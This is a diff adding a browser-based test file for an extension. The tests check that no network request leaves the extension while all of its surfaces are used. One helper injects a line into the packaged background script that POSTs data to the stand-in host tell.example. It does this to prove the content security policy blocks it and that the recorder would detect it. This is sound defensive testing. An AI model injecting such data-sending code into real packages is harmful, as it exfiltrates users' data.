@@ -1,0 +1,154 @@
+import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import type { Page } from 'playwright-core'
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
+import { backgroundOf } from '../browser/background.ts'
+import { type Chromium, launchChromium } from '../browser/chromium.ts'
+import { packageFolder } from '../browser/packages.ts'
+import { type Recorder, startRecorder } from '../browser/recorder.ts'
+import { serveFeedsOnly } from '../browser/serve.ts'
+import { FeedTab } from '../e2e/panels.ts'
+import { seed } from '../sample/seed.ts'
+
+const HUBSPOT = join(import.meta.dirname, '../unit/import/files/hubspot.csv')
+const FEEDS = [
+  ['https://x.com/home', 'maralind'],
+  ['https://www.facebook.com/', 'mara.lindqvist'],
+  ['https://www.linkedin.com/feed/', 'mara-lindqvist'],
+] as const
+const SECTIONS = ['people', 'listening', 'vip', 'relationships', 'replies', 'data', 'settings']
+
+let recorder: Recorder
+beforeAll(async () => {
+  recorder = await startRecorder()
+})
+afterAll(() => recorder?.close())
+beforeEach(() => void recorder.requests.splice(0))
+
+/** A browser behind the recorder; `asked` is what pages and workers of the extension loaded. */
+async function start(extension?: string) {
+  const browser = await launchChromium({
+    proxy: recorder.proxy,
+    ...(extension && { extension }),
+  })
+  const asked: string[] = []
+  browser.context.on('request', (request) => {
+    const from = request.serviceWorker()?.url() ?? request.frame().url()
+    if (from.startsWith('chrome-extension:')) asked.push(request.url())
+  })
+  const served = await serveFeedsOnly(browser.context)
+  return { browser, asked, served }
+}
+
+/** Where Chromium looks for updates of its own, and asks whether somebody is signed in. */
+const OF_CHROMIUM = /\b(google|googleapis|gvt1)\.com(:443|\/|$)/
+/** Chromium connects ahead to where a tab goes, even where a test answers in the site's place. */
+const AHEAD = FEEDS.map(([url]) => `${new URL(url).host}:443`)
+
+/** What reached the recorder and is not the browser's own. */
+const left = () => recorder.requests.filter((one) => !OF_CHROMIUM.test(one) && !AHEAD.includes(one))
+
+/** Every surface is opened, and what it is for is done. */
+async function useEverything(browser: Chromium): Promise<void> {
+  await seed(browser)
+  const ask = await backgroundOf(browser)
+  await ask('changeSettings', { discoverAdvocates: true, draftLink: 'https://acme.example/help' })
+  for (const [url, handle] of FEEDS) {
+    const tab = await FeedTab.open(browser.context, url)
+    const post = await tab.postOf(handle)
+    await expect.poll(() => tab.nameOn(post)).toContain(': ')
+    const panel = await tab.openPanel(post)
+    await panel.getByText('Relationship').waitFor()
+    await tab.page.evaluate(() => window.feed.scrollThrough(10))
+    await tab.close()
+  }
+  for (const path of ['popup.html', 'sidepanel.html', 'welcome.html', 'panel.html']) {
+    const page = await browser.openExtensionPage(path)
+    await page.waitForSelector('h1')
+    for (const one of await page.getByRole('tab').all()) await one.click()
+    await page.close()
+  }
+  const dashboard = await browser.openExtensionPage('dashboard.html')
+  for (const section of SECTIONS) {
+    await goTo(dashboard, section)
+    await dashboard.waitForLoadState('networkidle')
+  }
+  await goTo(dashboard, 'data')
+  const download = dashboard.waitForEvent('download')
+  await dashboard.getByRole('button', { name: 'Make a backup' }).click()
+  const backup = await (await download).path()
+  await dashboard.getByText('It was read back and is whole').waitFor()
+  await dashboard.locator('input[type=file]').setInputFiles(backup)
+  await dashboard.getByText('Put it in the place of what is here').click()
+  await dashboard.getByRole('button', { name: 'Replace everything' }).click()
+  await dashboard.getByRole('button', { name: 'Replace everything now' }).click()
+  await dashboard.getByText('is in place').waitFor()
+  await goTo(dashboard, 'data/import')
+  await dashboard.setInputFiles('input[type=file]', HUBSPOT)
+  await dashboard.getByRole('button', { name: 'Show what it would do' }).click()
+  await dashboard.getByRole('button', { name: /^Import \d+ rows/ }).click()
+  await dashboard.getByText(/people were added/).waitFor()
+}
+
+const goTo = (page: Page, route: string) =>
+  page.evaluate((hash) => {
+    location.hash = hash
+  }, `#/${route}`)
+
+describe('no request leaves', () => {
+  it('while every surface is used, on every network', async () => {
+    const { browser, asked, served } = await start()
+    try {
+      await useEverything(browser)
+      expect(left()).toEqual([])
+      // Of the sites nothing was asked for but the pages that were opened.
+      const pages = new Set([
+        ...FEEDS.map(([url]) => url),
+        ...FEEDS.flatMap(([url]) => filesOf(url)),
+      ])
+      expect(served.filter((url) => !pages.has(url))).toEqual([])
+      expect(asked.filter((url) => !/^(chrome-extension|blob|data):/.test(url))).toEqual([])
+      expect(asked.length).toBeGreaterThan(50)
+      console.info(`files of its own: ${asked.length}, feeds: ${served.length}, others: 0`)
+    } finally {
+      await browser.close()
+    }
+  })
+
+  it('even of code that tries to send one, as long as the policy of our pages holds', async () => {
+    expect(await tryToSend({ policy: true })).toBe('refused')
+    expect(left()).toEqual([])
+  })
+
+  it('and one that did would be seen', async () => {
+    await tryToSend({ policy: false })
+    await expect.poll(left).toContain('tell.example:443')
+  })
+})
+
+const filesOf = (url: string) =>
+  ['static/feed.js', 'static/feed.css', 'favicon.ico'].map((file) => new URL(`/${file}`, url).href)
+
+/** A package whose background sends something out as it starts. */
+async function tryToSend({ policy }: { policy: boolean }): Promise<string> {
+  const extension = mkdtempSync(join(tmpdir(), 'ardent-telling-'))
+  cpSync(packageFolder('chromium'), extension, { recursive: true })
+  const background = join(extension, 'background.js')
+  const tell = `globalThis.told = fetch('https://tell.example/all', { method: 'POST', body: 'all' })
+    .then(() => 'sent', () => 'refused');`
+  writeFileSync(background, tell + readFileSync(background, 'utf8'))
+  if (!policy) {
+    const manifest = join(extension, 'manifest.json')
+    const { content_security_policy: _, ...rest } = JSON.parse(readFileSync(manifest, 'utf8'))
+    writeFileSync(manifest, JSON.stringify(rest))
+  }
+  const { browser } = await start(extension)
+  try {
+    const worker = await browser.worker()
+    return await worker.evaluate(() => (globalThis as unknown as { told: Promise<string> }).told)
+  } finally {
+    await browser.close()
+    rmSync(extension, { recursive: true, force: true })
+  }
+}
